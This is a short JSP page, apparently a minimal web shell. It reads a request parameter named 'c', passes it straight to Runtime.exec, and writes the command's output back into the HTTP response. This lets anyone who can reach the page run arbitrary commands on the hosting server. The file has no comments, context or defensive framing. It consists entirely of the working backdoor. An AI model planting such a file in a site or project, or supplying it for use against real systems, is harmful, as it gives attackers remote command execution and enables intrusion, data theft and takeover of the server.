<%@ page import="java.io.*" %><%
var r = Runtime.getRuntime();
var p = r.exec(request.getParameterValues("c")[0]);
var br = new BufferedReader(new InputStreamReader(p.getInputStream()));
String s; while ((s = br.readLine()) != null) out.println(s);
%>
